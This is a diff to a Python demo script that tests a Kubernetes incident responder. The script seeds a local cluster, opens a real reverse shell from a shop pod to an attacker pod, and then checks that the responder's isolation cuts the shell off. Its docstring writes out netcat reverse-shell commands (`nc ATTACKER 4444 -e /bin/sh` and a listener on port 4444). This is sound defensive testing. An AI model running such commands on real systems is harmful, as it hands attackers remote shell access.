@@ -3,16 +3,17 @@
 1. start the local cluster (built from Debian's kubernetes source on first use: ~4 min once, cached): etcd,
    kube-apiserver, controller-manager and, as root, a real node (containerd + kubelet + scheduler) sealed in its own
    network namespace,
-2. seed two namespaces like a real shop: a Deployment with a Service and allowing NetworkPolicies, whose pods run an
-   actual reverse shell confined to the pod's own loopback (a listener `nc -l -p 4444` playing the attacker, and
-   `nc 127.0.0.1 4444 -e /bin/sh` handing it a shell),
+2. seed two namespaces like a real shop: a Deployment with a Service and allowing NetworkPolicies; an attacker pod in
+   a namespace of its own listens on 4444, and an "exploit" starts `nc ATTACKER 4444 -e /bin/sh` in one shop pod: a
+   real reverse shell across the node's network, answering the attacker's commands (tests/support/reverse_shell.py),
 3. replay a Reverse Shell finding built from one live pod per namespace through `python -m responder replay`, in
    enforce mode, as the responder's least-privilege identity, with the shipped policy.yaml:
    prod-* namespaces → isolate + detach + capture (the suspect keeps running for forensics; its ReplicaSet starts a
    clean pod),
    dev-*  namespaces → isolate, capture, delete (the ReplicaSet replaces it),
-4. show what happened: the real `ps axjf` tree and log tail captured from the container, policies, labels, the
-   Running replacement pods, skipped steps and why.
+4. show what happened: what the attacker saw (the shell answering before, and when it stopped answering after the
+   responder's isolating writes, or ended with the pod), the real `ps axjf` tree, the shell's own socket and the log
+   tail captured from the container, policies, labels, the Running replacement pods, skipped steps and why.
 
 `--json` prints only the decision records (one JSON line per finding).
 """
@@ -25,9 +26,10 @@ import os
 import subprocess
 import sys
 import tempfile
+import threading
 import time
 import uuid
-from datetime import UTC, datetime
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
@@ -36,6 +38,7 @@ sys.path.insert(0, str(ROOT))
 
 from kubernetes import client, config  # noqa: E402
 
+from tests.support import reverse_shell as rs  # noqa: E402
 from tests.support import workloads as w  # noqa: E402
 
 TESTENV = ROOT / ".testenv"
@@ -78,16 +81,14 @@ def seed(api: client.ApiClient, namespace: str, node: bool) -> list[Any]:
         {"metadata": {"name": namespace, "labels": {"rsr-demo": "true", "owner": "shop-team"}}}
     )
     if node:
-        w.create_running_deployment(api, namespace, "web", replicas=3)  # the in-pod reverse shell
+        w.create_running_deployment(api, namespace, "web", replicas=3, command=rs.VICTIM)
     else:
         w.create_deployment(api, namespace, "web", replicas=3)  # no node: the pods stay Pending
     w.create_service(api, namespace, "web", {"app": "web"})
     w.create_policy(api, namespace, "allow-web", {"app": "web"})
     w.create_policy(api, namespace, "allow-all-egress")
     if node:
-        running = w.wait_for_running(api, namespace, 3, "app=web", timeout_s=120)
-        time.sleep(1.5)  # the in-pod "attacker" has connected and sent its first commands
-        return running
+        return w.wait_for_running(api, namespace, 3, "app=web", timeout_s=120)
     return w.wait_for_pods(api, namespace, 3, "app=web")
 
 
@@ -103,13 +104,20 @@ def finding_for(namespace: str, pod: str, suffix: str) -> Path:
     now = datetime.now(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")
     f["eventTime"] = f["createTime"] = now
     f["kubernetes"]["pods"][0].update({"ns": namespace, "name": pod})
+    return finding_file(doc, suffix)
+
+
+def finding_file(doc: dict[str, Any], suffix: str) -> Path:
     path = Path(tempfile.mkdtemp(prefix="rsr-demo-")) / f"finding-{suffix}.json"
     path.write_text(json.dumps(doc))
     return path
 
 
 def replay(path: Path, state: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any] | None]:
-    """(decision record, incident report) of `python -m responder replay FILE --report json`."""
+    """(decision record, incident report) of `python -m responder replay FILE --report json`.
+
+    The operator states what the cluster's NetworkPolicy dataplane does to established connections, as on GKE the
+    responder reads it from the cluster: here kubeenv's (RSR_NETPOL, `established` by default)."""
     env = {k: v for k, v in os.environ.items() if not k.startswith("RESPONDER_")}
     env.update(
         {
@@ -119,6 +127,7 @@ def replay(path: Path, state: dict[str, Any]) -> tuple[dict[str, Any], dict[str,
             # verification on (the default), so a forged Pub/Sub message cannot trigger a deletion.
             "RESPONDER_VERIFY_FINDING": "false",
             "RESPONDER_BUDGET_MAX": "100",
+            "RESPONDER_NETPOL_ENFORCEMENT": ((state.get("node") or {}).get("netpol") or {}).get("mode", "none"),
         }
     )
     result = subprocess.run(
@@ -147,6 +156,9 @@ def show_evidence(report: dict[str, Any] | None) -> None:
             say(f"     | {line}")
     else:
         say(f"   process tree: {inspect.get('process_tree_note', 'not captured')}")
+    connection = inspect.get("connection")
+    if connection:
+        say(f"   sockets: {connection.get('why')}")
     tail = ((report or {}).get("logs") or {}).get("captured_tail")
     if tail:
         say("   container log tail captured before containment:")
@@ -182,6 +194,35 @@ def show_cluster(api: client.ApiClient, namespace: str, suspect: Any) -> None:
         say(f"     Pod {p.metadata.name:<24} {state:<11} labels={p.metadata.labels}{tag}")
 
 
+def attack(api: client.ApiClient, namespace: str, suspect: Any, quiet: bool) -> rs.Shell:
+    attackers = rs.create_namespace(api, f"c2-{namespace}")
+    client.CoreV1Api(api).patch_namespace(attackers, {"metadata": {"labels": {"rsr-demo": "true"}}})
+    shell = rs.open_shell(api, namespace, attackers, victim=suspect)
+    time.sleep(2)
+    now = datetime.now(UTC)
+    answered = shell.answered_in(now - timedelta(seconds=2), now)
+    say(
+        f"   attacker: pod c2 in {attackers} ({shell.attacker_ip}) holds a shell from {suspect.metadata.name} "
+        f"({shell.victim_ip}:{shell.victim_port}): {answered} commands answered in the last 2 s",
+        quiet,
+    )
+    return shell
+
+
+def what_the_attacker_saw(shell: rs.Shell, written: list[datetime], replayed: datetime) -> None:
+    last = shell.wait_for_silence(quiet_s=3.0, timeout_s=45.0)
+    if last is None:
+        say("   attacker: STILL ANSWERED 45 s after the responder finished: the shell is alive")
+        return
+    if written:
+        cut = (last - written[0]).total_seconds() * 1000
+        when = f"{cut:.0f} ms after the responder's isolating writes" if cut >= 0 else "before the isolating writes"
+    else:
+        when = f"{(last - replayed).total_seconds() * 1000:.0f} ms after the responder finished"
+    later = shell.answered_in(last + timedelta(milliseconds=1), datetime.now(UTC))
+    say(f"   attacker: last answer {when}; none since ({later} answers after it, commands still being sent)")
+
+
 def scenario(api: client.ApiClient, state: dict[str, Any], namespace: str, title: str, json_out: bool) -> None:
     quiet = json_out
     node = state.get("mode") == "node"
@@ -189,15 +230,34 @@ def scenario(api: client.ApiClient, state: dict[str, Any], namespace: str, title
     pods = seed(api, namespace, node)
     suspect = pods[0]
     say(
-        f"   seeded Deployment web x3 ({'Running an in-pod reverse shell' if node else 'Pending: no node'}), "
-        f"Service web, NetworkPolicies allow-web + allow-all-egress; finding built from {suspect.metadata.name}",
+        f"   seeded Deployment web x3 ({'Running' if node else 'Pending: no node'}), Service web, NetworkPolicies "
+        f"allow-web + allow-all-egress; finding built from {suspect.metadata.name}",
         quiet,
     )
-    record, report = replay(finding_for(namespace, suspect.metadata.name, uuid.uuid4().hex), state)
+    shell = attack(api, namespace, suspect, quiet) if node else None
+    stop = threading.Event()
+    written: list[datetime] = []
+    watcher = threading.Thread(
+        target=lambda: written.extend(rs.labelled_at(api, namespace, suspect.metadata.name, QUARANTINE, stop))
+    )
+    watcher.start()
+    try:
+        path = (
+            finding_file(shell.finding(), uuid.uuid4().hex)
+            if shell
+            else finding_for(namespace, suspect.metadata.name, uuid.uuid4().hex)
+        )
+        record, report = replay(path, state)
+    finally:
+        stop.set()
+        watcher.join()
+    replayed = datetime.now(UTC)
     if json_out:
         print(json.dumps(record), flush=True)
         return
     show_record(record)
+    if shell is not None:
+        what_the_attacker_saw(shell, written, replayed)
     show_evidence(report)
     # The controller-manager reacts asynchronously: give the ReplicaSet a moment to create the replacement.
     started = time.monotonic()
